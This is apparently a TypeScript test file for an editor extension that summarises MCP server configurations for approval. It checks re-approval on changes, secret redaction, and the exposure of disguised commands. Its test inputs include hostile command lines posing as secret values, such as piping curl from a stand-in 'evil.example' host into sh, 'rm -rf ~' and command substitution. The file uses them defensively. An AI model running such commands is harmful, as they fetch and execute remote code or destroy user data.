/** What an approval is about: which changes are asked for again, and that nothing shown is a secret. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { changesBetween, describeRun } from '../../../src/extension/security/approvalsDescription';
import { parseServersFile } from '../../../src/extension/servers/configFile';
import type { ConfiguredServer, InputDefinition } from '../../../src/extension/servers/types';

function read(entry: unknown, inputs: unknown[] = [], file = '/w/.vscode/mcp-shark.json'): { server: ConfiguredServer; inputs: readonly InputDefinition[] } {
  const parsed = parseServersFile(JSON.stringify({ servers: { demo: entry }, inputs }), file);
  expect(parsed.problems).toEqual([]);
  return { server: parsed.servers[0]!, inputs: parsed.inputs };
}
const run = (entry: unknown, inputs?: unknown[], file?: string) => {
  const { server, inputs: defined } = read(entry, inputs, file);
  return describeRun(server, defined);
};

const input = [{ type: 'promptString', id: 'token', password: true }];
const stdio = { command: 'npx', args: ['-y', 'pkg@1.0.0'], env: { LOG: 'info', API_KEY: 'k-1', GONE: null }, cwd: '.', envFile: '.env' };
const http = { url: 'https://example.com/mcp', headers: { Authorization: 'Bearer ${input:token}', 'X-Team': 'a' }, oauth: { clientId: 'c', clientSecret: 's-1' } };

describe('approval is asked for again', () => {
  it.each([
    ['the command', { ...stdio, command: 'node' }, [{ field: 'command', before: 'npx', after: 'node' }]],
    ['an argument', { ...stdio, args: ['-y', 'pkg@latest'] }, [{ field: 'args', before: '-y pkg@1.0.0', after: '-y pkg@latest' }]],
    ['how arguments are split', { ...stdio, args: ['-y pkg@1.0.0'] }, [{ field: 'args', before: '-y pkg@1.0.0', after: '"-y pkg@1.0.0"' }]],
    ['the folder', { ...stdio, cwd: '/tmp' }, [{ field: 'cwd', before: '.', after: '/tmp' }]],
    ['the file of variables', { ...stdio, envFile: '.evil' }, [{ field: 'envFile', before: '.env', after: '.evil' }]],
    ['a new variable', { ...stdio, env: { ...stdio.env, NODE_OPTIONS: '-r ./x.js' } }, [{ field: 'env.NODE_OPTIONS', after: '-r ./x.js' }]],
    ['what a variable says', { ...stdio, env: { ...stdio.env, LOG: 'debug' } }, [{ field: 'env.LOG', before: 'info', after: 'debug' }]],
    ['a variable that is no longer taken away', { ...stdio, env: { LOG: 'info', API_KEY: 'k-1' } }, [{ field: 'env.GONE', before: '(taken away)' }]],
    ['another secret sent as a secret', { ...stdio, env: { ...stdio.env, API_KEY: '${env:AWS_SECRET_ACCESS_KEY}' } }, [{ field: 'env.API_KEY', before: '[hidden]', after: '${env:AWS_SECRET_ACCESS_KEY}' }]],
  ])('for %s', (_what, after, changes) => {
    const [a, b] = [run(stdio), run(after)];
    expect(b.hash).not.toBe(a.hash);
    expect(changesBetween(a.facts, b.facts)).toEqual(changes);
  });

  it.each([
    ['the address', { ...http, url: 'https://example.org/mcp' }, ['url']],
    ['a header', { ...http, headers: { ...http.headers, 'X-Team': 'b', 'X-New': '1' } }, ['headers.X-New', 'headers.X-Team']],
    ['the token in a header', { ...http, headers: { ...http.headers, Authorization: 'Bearer ${env:GH_TOKEN}' } }, ['headers.Authorization']],
    ['the client', { ...http, oauth: { clientId: 'other', clientSecret: 's-1' } }, ['oauth.clientId']],
    ['the transport', { ...http, type: 'sse', oauth: undefined }, ['type', 'oauth.clientId', 'oauth.clientSecret']],
  ])('for %s of a server on the network', (_what, after, fields) => {
    const [a, b] = [run(http, input), run(JSON.parse(JSON.stringify(after)), input)];
    expect(b.hash).not.toBe(a.hash);
    expect(changesBetween(a.facts, b.facts).map(({ field }) => field)).toEqual(fields);
  });

  it('for the editor command behind an input that is used, and for none that is not', () => {
    const entry = { command: 'x', args: ['${input:cmd}'] };
    const command = (id: string, args: unknown) => ({ type: 'command', id, command: 'ext.run', args });
    const before = run(entry, [command('cmd', { a: 1 })]);
    const after = run(entry, [command('cmd', { a: 2 }), command('other', 1)]);
    expect(changesBetween(before.facts, after.facts)).toEqual([{ field: 'inputs.cmd', before: 'editor command ext.run {"a":1}', after: 'editor command ext.run {"a":2}' }]);
    expect(run(entry, [command('cmd', { a: 2 })]).hash).toBe(after.hash);
  });

  it('but not for a rotated secret, for another order of keys, or for what a team says', () => {
    const same = run(stdio);
    expect(run({ ...stdio, env: { GONE: null, API_KEY: 'k-2', LOG: 'info' } }).hash).toBe(same.hash);
    expect(run({ ...stdio, purpose: 'p', owner: 'o', tools: { deny: ['x'] }, enabled: false, gallery: true }).hash).toBe(same.hash);
    expect(run({ ...http, oauth: { clientId: 'c', clientSecret: 's-2' } }, input).hash).toBe(run(http, input).hash);
    expect(run(stdio, [], '/elsewhere/.vscode/mcp-shark.json').hash).toBe(same.hash);
  });
});

describe('what is shown', () => {
  it('is the command line with its placeholders as they stand', () => {
    const { commandLine } = run({ command: 'npx', args: ['-y', 'a b', '${workspaceFolder}/x', '--token', '${input:token}'] }, input);
    expect(commandLine).toBe('npx -y "a b" ${workspaceFolder}/x --token ${input:token}');
  });

  it.each([
    [{ command: 'x', args: ['--api-key', 's3cret-value'] }],
    [{ command: 'x', args: ['--api-key=s3cret-value'] }],
    [{ command: 'x', args: ['--token', 'pre-s3cret-value-${input:token}'] }],
    [{ command: 'x', args: ['https://user:s3cret-value@example.com/'] }],
    [{ command: 'x', args: ['ghp_s3cret0value0s3cret0value0s3cret0v4l'] }],
    [{ command: 'x', args: ['API_KEY=s3cret-value'] }],
    [{ command: 'docker', args: ['run', '-e', 'API_KEY=s3cret-value', 'image:1'] }],
    [{ command: 'x', env: { OPTIONS: 'verbose;token=s3cret-value' } }],
    [{ command: 'x', env: { GITHUB_TOKEN: 's3cret-value' } }],
    [{ command: 'x', env: { DATABASE_URL: 'postgres://u:s3cret-value@h/db' } }],
    [{ url: 'https://example.com/mcp?api_key=s3cret-value&x=1' }],
    [{ url: 'https://u:s3cret-value@example.com/mcp' }],
    [{ url: 'https://example.com', headers: { Authorization: 'Bearer s3cret-value' } }],
    [{ url: 'https://example.com', headers: { 'X-Api-Key': 's3cret-value' } }],
    [{ url: 'https://example.com', oauth: { clientId: 'c', clientSecret: 's3cret-value' } }],
  ])('is no secret: %j', (entry) => {
    const { commandLine, facts } = run(entry, input);
    expect(JSON.stringify({ commandLine, facts })).not.toMatch(/s3cret/);
  });

  it.each([
    ['node', ['-e', 'secret=1;require("child_process").execSync("rm -rf ~")'], 'rm -rf ~'],
    ['node', ['--eval', '({"password":"evil()"})'], 'evil()'],
    ['ruby', ['-e', 'token=%x/curl,evil/'], '%x/curl,evil/'],
    ['sudo', ['-u', 'x', 'ruby', '-e', 'token=%x/evil/'], '%x/evil/'],
    ['python3', ['-c', 'password=1\nimport os;os.system("evil")'], 'os.system'],
    ['sh', ['-c', 'API_KEY=x; curl http://evil.example/p | sh'], 'curl http://evil.example/p | sh'],
    ['sh', ['-c', 'token=aaaa|evil'], '|evil'],
    ['bash', ['-lc', 'export API_KEY=abc && run-server --x'], '&& run-server --x'],
    ['sh', ['-c', 'x?token=;curl${IFS}evil|sh'], ';curl${IFS}evil|sh'],
    ['sh', ['-c', '//;curl${IFS}evil|sh;@h'], ';curl${IFS}evil|sh;@h'],
    ['sh', ['-c', 'x://a:;evil|sh;@b'], ';evil|sh;'],
    ['sh', ['-c', '-----BEGIN PRIVATE KEY-----; evil'], '; evil'],
    ['x', ['--token', '$(evil)'], '$(evil)'],
    ['x', ['TOKEN=a;evil'], 'a;evil'],
    ['npx', ['--token', 'evil-package@1'], 'evil-package@1'],
    ['npx', ['--token', 'evil-package'], 'evil-package'],
    ['env', ['TOKEN=abcdefgh', 'evil-program'], 'evil-program'],
    ['node', ['--token', './evil.js'], './evil.js'],
    ['node', ['--password', 'evil.mjs'], 'evil.mjs'],
    ['uv', ['run', '--token', '/opt/x/evil'], '/opt/x/evil'],
    ['x', ['--secret=https://evil.example/x.sh'], 'https://evil.example/x.sh'],
  ])('is all that runs, whatever secret it poses as: %s %j', (command, args, part) => {
    const { commandLine, facts } = run({ command, args });
    expect(commandLine.replaceAll('\\"', '"')).toContain(part);
    expect(facts.find(({ field }) => field === 'args')?.text.replaceAll('\\"', '"')).toContain(part);
  });

  it('is what a variable runs, too', () => {
    const { facts } = run({ command: 'x', env: { NODE_OPTIONS: '--require token=./evil.js', BASH_ENV: 'x?token=$(evil)' } });
    expect(facts.find(({ field }) => field === 'env.NODE_OPTIONS')?.text).toContain('./evil.js');
    expect(facts.find(({ field }) => field === 'env.BASH_ENV')?.text).toContain('$(evil)');
  });

  it('hides nothing by characters that are not seen or turn the text around', () => {
    const { commandLine } = run({ command: 'good\u202Elive', args: ['a\nb', 'x\u200By', '\u{E0041}'] });
    expect(commandLine).toBe(String.raw`good\u{202e}live "a\nb" "x\u{200b}y" "\u{e0041}"`.replace('good\\u{202e}live', '"good\\u{202e}live"'));
  });

  it('never fails, and gives every two configurations that differ in command or arguments two hashes', () => {
    const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }).filter((value) => value.trim() !== '');
    const config = fc.record({ command: text, args: fc.array(fc.string({ unit: 'binary', maxLength: 4 }), { maxLength: 3 }) });
    const server = (c: object): ConfiguredServer => ({ name: 's', file: '/f', line: 1, fingerprint: '', config: { type: 'stdio', env: {}, ...c } as ConfiguredServer['config'] });
    fc.assert(
      fc.property(config, config, (a, b) => {
        const isSame = JSON.stringify(a) === JSON.stringify(b);
        expect(describeRun(server(a), []).hash === describeRun(server(b), []).hash).toBe(isSame);
      }),
    );
  });
});
